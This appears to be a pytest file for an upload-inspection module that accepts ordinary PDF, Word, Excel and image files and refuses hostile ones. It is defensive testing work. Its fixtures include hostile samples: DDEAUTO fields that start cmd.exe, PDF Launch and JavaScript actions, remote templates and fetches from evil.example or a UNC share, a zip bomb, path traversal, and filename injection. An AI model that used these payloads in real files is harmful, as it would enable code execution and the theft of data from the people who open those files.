"""Looking into files that are sent along: honest ones pass, the others are told what to do."""

import io
import re
import tempfile
import zipfile

import pytest
from PIL import Image
from pypdf import PdfWriter

from catalog.errors import Invalid
from catalog.inspecting import kinds, safely
from catalog.inspecting.safely import Inspected
from tests import papers

_RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" TargetMode="External" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/{}" Target="{}"/></Relationships>'
)


def looked(content: bytes, name: str) -> Inspected:
    with tempfile.TemporaryFile() as file:
        file.write(content)
        file.flush()
        return safely.inspect(file, name)


def _relation(kind: str, target: str) -> bytes:
    return _RELATION.format(kind, target).encode()


def _embedded(writer: PdfWriter) -> None:
    writer.add_attachment("夹带.exe", b"MZ")


def _locked(writer: PdfWriter) -> None:
    writer.encrypt("secret", algorithm="AES-256")


def _only_printing_locked(writer: PdfWriter) -> None:
    writer.encrypt("", "owner", algorithm="AES-256")


def _macro_types(content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        types = package.read("[Content_Types].xml")
    changed = types.replace(b"document.main+xml", b"document.macroEnabled.main+xml")
    changed = changed.replace(
        b"wordprocessingml.document.macroEnabled", b"ms-word.document.macroEnabled"
    )
    return papers.repacked(content, **{"[Content_Types].xml": changed})


@pytest.mark.parametrize(
    ("name", "content", "media"),
    [
        ("说明.pdf", papers.pdf(), "application/pdf"),
        ("不能打印的.PDF", papers.pdf(_only_printing_locked), "application/pdf"),
        ("packed.pdf", papers.hidden_in_a_stream(lambda _: None), "application/pdf"),
        ("补充.docx", papers.document(), kinds.MEDIA["docx"]),
        ("名单.xlsx", papers.workbook(), kinds.MEDIA["xlsx"]),
        (
            "有网址的.docx",
            papers.document(
                **{"word__more.rels": _relation("hyperlink", "https://gk.example.gov.cn")}
            ),
            kinds.MEDIA["docx"],
        ),
        (
            "用自己电脑上模板写的.docx",
            papers.document(
                **{
                    "word/_rels/settings.xml.rels": _relation(
                        "attachedTemplate", "file:///C:/a.dotm"
                    )
                },
            ),
            kinds.MEDIA["docx"],
        ),
        ("身份证.jpeg", papers.picture(), "image/jpeg"),
        ("截屏.png", papers.picture("PNG", mode="P"), "image/png"),
        ("透明.png", papers.picture("PNG", mode="RGBA"), "image/png"),
    ],
)
def test_an_honest_file_may_be_kept(name: str, content: bytes, media: str) -> None:
    assert looked(content, name).media == media


def test_a_photograph_stands_upright_and_says_no_place() -> None:
    kept = looked(papers.picture(), "IMG_0001.JPG").content
    assert kept is not None
    drawn = Image.open(io.BytesIO(kept))
    assert drawn.size == (40, 60), "turned as the camera said"
    assert not drawn.getexif()
    for word in (b"SecretPhone", b"secret comment", b"Exif"):
        assert word not in kept


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("空的.pdf", b"", "空的"),
        ("没有后缀", b"hello", "只收 PDF"),
        ("报表.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "另存为”xlsx"),
        ("信.doc", b"x", "另存为”docx"),
        ("照片.HEIC", b"x", "存成 jpg"),
        ("全部.zip", b"PK\x03\x04", "先解开压缩包"),
        ("宏.docm", b"PK\x03\x04", "不带宏"),
        ("程序.exe", b"MZ", "只收 PDF"),
        ("程序.pdf", b"MZ" + b"\0" * 500, "里面却不是PDF"),
        ("程序.jpg", b"MZ" + b"\0" * 500, "里面却不是图片"),
        ("网页.png", b"<html><script>1</script>", "里面却不是图片"),
        ("矢量.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "里面却不是图片"),
        ("图.jpg", papers.picture("PNG"), "里面却不是图片"),
        ("图.pdf", papers.picture(), "里面却不是PDF"),
        ("表.docx", papers.workbook(), "里面却不是Word"),
        ("文.xlsx", papers.document(), "里面却不是Excel"),
        ("有密码的.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 99, "去掉密码"),
        ("缺尾.pdf", papers.pdf()[:-40], "没有传完整"),
        ("坏.pdf", b"%PDF-1.7\nstartxref\n9\n%%EOF\n", "打不开"),
        ("有密码的.pdf", papers.pdf(_locked), "打开密码"),
        ("脚本.pdf", papers.pdf(papers.action("/JavaScript", JS="app.alert(1)")), "带有脚本"),
        ("启动.pdf", papers.pdf(papers.action("/Launch", F="cmd.exe")), "启动别的程序"),
        (
            "改写的.pdf",
            papers.pdf(papers.action("/Launch")).replace(b"/Launch", b"/L#61unch"),
            "启动",
        ),
        (
            "藏在压缩流里.pdf",
            papers.hidden_in_a_stream(papers.action("/JavaScript", JS="app.alert(1)")),
            "带有脚本",
        ),
        ("夹带.pdf", papers.pdf(_embedded), "夹带着别的文件"),
        ("缺尾.docx", papers.document()[:-300], "打不开"),
        ("宏改了名.docx", _macro_types(papers.document()), "带有宏"),
        ("宏.docx", papers.document(**{"word/vbaProject.bin": b"x"}), "带有宏"),
        ("程序.docx", papers.document(**{"word/media/a.png": b"MZ\x90"}), "嵌着程序"),
        ("对象.xlsx", papers.workbook(**{"xl/embeddings/a.docx": b"PK"}), "嵌着程序"),
        (
            "远程模板.docx",
            papers.document(
                **{
                    "word/_rels/settings.xml.rels": _relation(
                        "attachedTemplate", "https://evil.example/t.dotm"
                    )
                }
            ),
            "自己去网上取",
        ),
        (
            "共享模板.docx",
            papers.document(
                **{"word/_rels/settings.xml.rels": _relation("attachedTemplate", "\\\\10.0.0.9\\t")}
            ),
            "自己去网上取",
        ),
        (
            "实体.docx",
            papers.document(**{"word/more.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
            "文档类型",
        ),
        (
            "炸弹.xlsx",
            papers.workbook(**{"xl/media/a.bin": b"\0" * 101 * 1024 * 1024}),
            "大得不合理",
        ),
        (
            "部件太多.xlsx",
            papers.workbook(**{f"xl/media/{n}.bin": b"" for n in range(2_001)}),
            "大得不合理",
        ),
        ("出去.docx", papers.document(**{"../evil.xml": b"<a/>"}), "不安全"),
        ("缺尾.jpg", papers.picture()[:-200], "打不开"),
        ("太大.png", papers.picture("PNG", (6400, 6400), "1"), "4000 万像素"),
    ],
)
def test_what_means_harm_or_is_broken_is_told_what_to_do(
    name: str, content: bytes, said: str
) -> None:
    with pytest.raises(Invalid, match=re.escape(said)) as refusal:
        looked(content, name)
    assert re.search(r"请|只收", str(refusal.value)), "a refusal says what to do"
    assert "非法" not in str(refusal.value)


_BODY = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>'
    "{}</w:p></w:body></w:document>"
)


def _fields(*runs: str) -> bytes:
    """A document with a field as Word stores it, its text split over these runs."""
    text = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    edge = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return _body(edge.format("begin") + text + edge.format("end"))


def _body(content: str) -> bytes:
    return papers.document(**{"word/document.xml": _BODY.format(content).encode()})


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (_fields(" DDEAUTO c:\\cmd.exe &quot;/k calc&quot; "), "嵌着程序"),
        (_fields(" D", "DEA", "UTO c:\\cmd.exe"), "嵌着程序"),
        (_fields("PAGE", "dde excel a"), "嵌着程序"),
        (_fields(" QUOTE 68 68 69 65 85 84 79 "), "嵌着程序"),
        (_body('<x:fldSimple x:instr="DDEAUTO c:\\cmd.exe"/>'), "嵌着程序"),
        (_fields(' INCLUDEPICTURE "ht', 'tp://evil.example/x.png" \\d'), "自己去网上取"),
        (_fields(' INCLUDETEXT "\\\\10.0.0.9\\s\\a.docx"'), "自己去网上取"),
        (
            _body('<x:fldSimple x:instr=" LINK Excel.Sheet https://evil.example/a"/>'),
            "自己去网上取",
        ),
    ],
)
def test_a_field_that_starts_or_fetches_is_refused_however_it_is_stored(
    content: bytes, said: str
) -> None:
    with pytest.raises(Invalid, match=said):
        looked(content, "域.docx")


@pytest.mark.parametrize(
    "content",
    [
        _fields(' HYPERLINK "https://gk.example.gov.cn/a" '),
        _fields(" PAGE ", " NUMPAGES ", ' TOC \\o "1-3" \\h '),
        _fields(' INCLUDEPICTURE "C:\\照片\\a.png" '),
        _body("<w:r><w:t>DDEAUTO 是什么</w:t></w:r>"),
    ],
)
def test_fields_of_everyday_documents_are_kept(content: bytes) -> None:
    assert looked(content, "域.docx").kind == "docx"


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        (
            "连接.xlsx",
            papers.workbook(**{"xl/connections.xml": b'<a><webPr url="h"/></a>'}),
            "嵌着",
        ),
        (
            "旧宏.xlsx",
            papers.workbook(**{"xl/macrosheets/a.xml": b"<a:macrosheet/>"}),
            "嵌着|打不开",
        ),
        (
            "公式.xlsx",
            papers.workbook(**{"xl/worksheets/b.xml": b"<a><f>_xlfn.WEBSERVICE(A1)</f></a>"}),
            "自己去网上取",
        ),
        ("网页.docx", papers.document(**{"word/a.html": b"<html/>"}), "嵌着"),
        ("部件.docx", papers.document(**{"word/evil.bin": b"<a/>"}), "嵌着"),
        ("压缩包.docx", papers.document(**{"word/media/a.png": b"PK\x03\x04"}), "嵌着"),
        ("夹带.docx", papers.document(**{"word/more.rels": _relation("package", "a")}), "嵌着"),
        ("正文.docx", papers.document(**{"_rels/.rels": _relation("officeDocument", "b")}), "嵌着"),
        (
            "改写.docx",
            papers.document(
                **{"word/more.rels": _relation("attachedTemplate", "%5C%5Cevil%5Cx.dotm")}
            ),
            "自己去网上取",
        ),
    ],
)
def test_a_part_that_no_everyday_file_has_is_refused(name: str, content: bytes, said: str) -> None:
    with pytest.raises(Invalid, match=said):
        looked(content, name)


def test_a_part_declared_as_text_is_read_whatever_its_ending() -> None:
    types = zipfile.ZipFile(io.BytesIO(papers.document())).read("[Content_Types].xml")
    named = b'<Override PartName="/word/media/Head.png" ContentType="application/a.header+xml"/>'
    content = papers.document(
        **{
            "[Content_Types].xml": types.replace(b"</Types>", named + b"</Types>"),
            "word/media/head.png": _BODY.format('<w:fldSimple w:instr="DDE a"/>').encode(),
        }
    )
    with pytest.raises(Invalid, match="嵌着"):
        looked(content, "页眉.docx")


def test_pictures_fonts_and_the_printers_settings_are_kept() -> None:
    parts = {
        "xl/printerSettings/printerSettings1.bin": b"\0" * 40,
        "xl/media/image1.emf": b"\1\0\0\0",
        "xl/media/image2.png": papers.picture("PNG"),
        "xl/drawings/vmlDrawing1.vml": b"<xml/>",
    }
    assert looked(papers.workbook(**parts), "表.xlsx").kind == "xlsx"
    assert looked(papers.document(**{"word/fonts/font1.odttf": b"x"}), "信.docx").kind == "docx"


_GO = "<< /S /GoTo /D [3 0 R /Fit] >>"
_SCRIPT = "<< /S /J#61vaScript /J#53 (app.alert(1)) >>"


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (papers.plain_pdf("/OpenAction << /S 4 0 R /F (cmd.exe) >>", "/Launch"), "启动别的程序"),
        (papers.plain_pdf("/OpenAction << /S 4 0 R /F (cmd.exe) >>", "/L#61unch"), "启动别的程序"),
        (papers.plain_pdf(f"/OpenAction {_GO} /OpenAction {_SCRIPT}"), "带有脚本"),
        (papers.plain_pdf(f"/OpenAction {_SCRIPT} /Open#41ction {_GO}"), "带有脚本"),
        (papers.plain_pdf("", _SCRIPT), "带有脚本"),
        (papers.plain_pdf("", "<< /S /SubmitForm /F (http://evil.example) >>"), "带有脚本"),
        (papers.plain_pdf("", "<< /S /Import#44ata /F (a.fdf) >>"), "带有脚本"),
        (papers.plain_pdf("/OpenAction << /S /GoToE /D [0 /Fit] >>"), "夹带着别的文件"),
        (papers.plain_pdf("", "<< /Type /Annot /Subtype 5 0 R >>", "/Mo#76ie"), "夹带着别的文件"),
        (papers.plain_pdf("/Collection << >>"), "夹带着别的文件"),
        (papers.plain_pdf("", "<< /Type /Annot /Subtype /3D >>"), "夹带着别的文件"),
        (
            papers.plain_pdf("/OpenAction << /S /URI /URI (http://evil.example) >>"),
            "自己去别的地方",
        ),
        (
            papers.plain_pdf("/OpenAction 4 0 R", "<< /S 5 0 R /URI (http://e) >>", "/U#52I"),
            "自己去",
        ),
        (papers.plain_pdf("/AA << /WC << /S /GoToR /F (x.pdf) >> >>"), "自己去别的地方"),
        (
            papers.plain_pdf(f"/OpenAction {_GO[:-2]} /Next [4 0 R] >>", "<< /S /URI /URI (h) >>"),
            "自己去别的地方",
        ),
    ],
)
def test_a_pdf_that_acts_is_refused_however_its_names_are_written(
    content: bytes, said: str
) -> None:
    with pytest.raises(Invalid, match=said):
        looked(content, "动作.pdf")


@pytest.mark.parametrize(
    "content",
    [
        papers.plain_pdf(f"/OpenAction {_GO}"),
        papers.plain_pdf("/OpenAction [3 0 R /Fit]"),
        papers.plain_pdf("", "<< /Type /ExtGState /BM /Screen >>"),
        papers.plain_pdf(
            "/OpenAction [3 0 R /Fit]",
            "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
            "/A << /S /URI /URI (https://gk.example.gov.cn) >> >>",
        ),
    ],
)
def test_a_pdf_with_links_to_click_and_a_first_page_is_kept(content: bytes) -> None:
    assert looked(content, "网址.pdf").kind == "pdf"


def test_a_file_that_takes_too_long_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(safely.limits, "MAX_SECONDS", 0.01)
    with pytest.raises(Invalid, match="没有看完"):
        looked(papers.pdf(), "慢.pdf")


def test_a_picture_that_needs_too_much_memory_is_refused() -> None:
    """A file of a few kilobytes that unfolds to 39 megapixels of four bytes, and turns."""
    target = io.BytesIO()
    exif = Image.Exif()
    exif[0x0112] = 6
    Image.new("RGBA", (6200, 6200)).save(target, "PNG", exif=exif)
    try:
        assert looked(target.getvalue(), "大.png").content is not None
    except Invalid as refusal:
        assert "没有看完" in str(refusal)  # noqa: PT017 - either is right, an end of the program is not


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\a\\身份证.jpg", "身份证.jpg"),
        ("证明\u202egpj.pdf", "证明gpj.pdf"),
        ("a\r\nSet-Cookie: b.pdf", "aSet-Cookie: b.pdf"),
        ("长" * 300 + ".docx", "长" * 115 + ".docx"),
    ],
)
def test_a_shown_name_has_no_path_and_no_marks_of_control(typed: str, shown: str) -> None:
    assert kinds.shown_name(typed) == shown
